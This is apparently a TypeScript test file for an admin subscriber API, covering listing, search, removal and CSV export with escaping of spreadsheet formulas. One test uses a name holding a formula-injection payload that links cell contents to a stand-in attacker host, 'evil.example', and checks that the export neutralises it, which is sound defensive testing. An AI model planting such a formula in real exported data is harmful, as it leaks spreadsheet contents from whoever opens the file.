import { describe, expect, it } from 'vitest';
import type { TRPCError } from '@trpc/server';
import { parse } from 'csv-parse/sync';
import { useTestApp } from '../../../server/testing/test-app.ts';
import { signIn } from '../../../server/testing/auth.ts';
import type { SessionUser } from '../../../lib/server/trpc.ts';
import { Subscriber } from './subscriber.entity.ts';
import { subscribeConfirmed } from '../../../server/testing/subscribers.ts';

const admin: SessionUser = { id: 1, username: 'breeder', isAdmin: true };

describe('admin.subscribers', () => {
  const t = useTestApp();
  const as = () => t.caller(admin);

  it('lists subscribers with status, searches, removes', async () => {
    await subscribeConfirmed(t, 'Ann@Example.com', 'Ann');
    await subscribeConfirmed(t, 'bob@example.com');
    await subscribeConfirmed(t, 'cleo@example.org', '-cleo');
    await t.caller(null, '10.1.0.5').subscribers.subscribe({ email: 'dee@example.org' });
    const bob = await t.orm.em.fork().findOneOrFail(Subscriber, { email: 'bob@example.com' });
    await t.caller(null, '10.1.0.4').subscribers.unsubscribe({ token: bob.unsubscribeToken });

    const all = await as().admin.subscribers.list({});
    expect(all.total).toBe(4);
    expect(all.items.map((s) => s.email)).toEqual(['dee@example.org', 'cleo@example.org', 'bob@example.com', 'ann@example.com']);
    expect(all.items.find((s) => s.email === 'dee@example.org')?.status).toBe('pending');
    expect(all.items.find((s) => s.email === 'bob@example.com')?.status).toBe('unsubscribed');

    expect((await as().admin.subscribers.list({ status: 'active' })).total).toBe(2);
    expect((await as().admin.subscribers.list({ search: 'example.com' })).items.map((s) => s.email)).toEqual([
      'bob@example.com',
      'ann@example.com',
    ]);
    expect((await as().admin.subscribers.list({ search: 'ANN' })).total).toBe(1);
  });

  it('exports CSV (admin only, formulas escaped) and removes a subscriber', async () => {
    const { cookie } = await signIn(t.orm, { isAdmin: true });
    const res = await t.app.inject({ method: 'GET', url: '/api/admin/subscribers.csv', headers: { cookie } });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="subscribers.csv"');
    const lines = res.body
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');
    expect(lines[0]).toBe('email,name,status,subscribed');
    expect(lines).toHaveLength(5);
    expect(lines[2]).toMatch(/^cleo@example\.org,'-cleo,active,\d{4}-/);
    const active = await t.app.inject({ method: 'GET', url: '/api/admin/subscribers.csv?status=active', headers: { cookie } });
    expect(active.body.trim().split('\r\n')).toHaveLength(3);
    expect((await t.app.inject({ method: 'GET', url: '/api/admin/subscribers.csv' })).statusCode).toBe(401);

    const [first] = (await as().admin.subscribers.list({})).items;
    await as().admin.subscribers.remove({ id: first!.id });
    expect((await as().admin.subscribers.list({})).total).toBe(3);
    const again = await as()
      .admin.subscribers.remove({ id: first!.id })
      .catch((e: unknown) => e);
    expect((again as TRPCError).code).toBe('NOT_FOUND');
  });

  it('quotes a name with a line break and neutralises a formula on each of its lines', async () => {
    await t
      .caller(null, '10.1.0.9')
      .subscribers.subscribe({ email: 'dana@example.com', name: 'Dana\n=HYPERLINK("https://evil.example/?"&A2)' });
    const { cookie } = await signIn(t.orm, { isAdmin: true });
    const res = await t.app.inject({ method: 'GET', url: '/api/admin/subscribers.csv', headers: { cookie } });
    const rows = parse(res.body, { bom: true }) as string[][];
    expect(rows[0]).toEqual(['email', 'name', 'status', 'subscribed']);
    const dana = rows.find((r) => r[0] === 'dana@example.com');
    expect(dana?.[1]).toBe('Dana\n\'=HYPERLINK("https://evil.example/?"&A2)');
    expect(rows.every((r) => r.length === 4)).toBe(true);
    expect(
      rows
        .flat()
        .flatMap((c) => c.split(/\r\n|\r|\n/))
        .filter((l) => /^[=+\-@\t]/.test(l)),
    ).toEqual([]);
  });
});
